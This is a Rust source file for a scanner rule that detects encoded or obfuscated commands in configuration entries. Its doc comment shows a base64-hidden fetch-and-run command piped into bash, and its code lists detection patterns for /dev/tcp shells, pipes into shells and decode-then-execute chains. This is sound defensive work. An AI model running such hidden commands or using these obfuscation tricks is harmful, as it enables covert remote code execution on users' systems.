//! `hidden-payload`

use portcullis_sdk::Severity;

use super::{Context, Hits, RuleSpec};

/// # What it does
/// Looks for command lines and code inside base64, hexadecimal, escapes and percent-encoding, in every field and through several
/// layers, and for entries that decode something and run it.
///
/// # Why
/// Nothing honest hides what it runs from whoever reads the entry.
///
/// # Example
/// ```yaml
/// command: bash
/// args: [-c, "echo Y3VybCBodHRwczovL2V4YW1wbGUuY29tL2kuc2g= | base64 -d | bash"]
/// ```
pub(super) const RULE: RuleSpec = RuleSpec {
    id: "hidden-payload",
    summary: "A command line or code inside an encoding.",
    severity: Severity::Critical,
    check,
};

fn check(context: &Context<'_>, hits: &mut Hits) {
    let programs = &context.tables.programs;
    if context.behaviour.runs_hidden {
        hits.deny("decodes a text and runs it", "");
    }
    for program in context.behaviour.programs.iter().filter(|program| program.decoded) {
        let name = program.name.as_str();
        let matters = programs.egress.contains(name)
            || programs.schedulers.contains(name) && program.arguments.len() > 1
            || programs.is_shell(name) && !program.arguments.is_empty();
        if matters {
            hits.deny(format!("an encoded text runs `{name}`"), "");
        }
    }
    for hidden in &context.behaviour.hidden {
        let lower = hidden.text.to_lowercase();
        let device = lower.contains("/dev/tcp/") || lower.contains("/dev/udp/");
        let piped = ["| sh", "|sh", "| bash", "|bash", "iex(", "iex ("].iter().any(|part| lower.contains(part));
        let target =
            super::persistence::target(context, &hidden.text).filter(|_| lower.contains('>') || lower.contains("tee"));
        if device || piped || target.is_some() {
            hits.deny(format!("a text in {} is a command line", hidden.wrapping.as_str()), "");
        }
    }
    for program in &context.behaviour.programs {
        let decodes = program.fed_by.iter().any(|name| {
            matches!(name.trim_start_matches('$'), "base" | "base64" | "xxd" | "openssl" | "gunzip" | "zcat")
        });
        if decodes
            && (programs.is_shell(&program.name)
                || programs.interpreters.contains(&program.name)
                || program.name == "eval")
        {
            hits.deny(format!("`{}` runs what is decoded before it", program.name), &program.name);
        }
    }
}
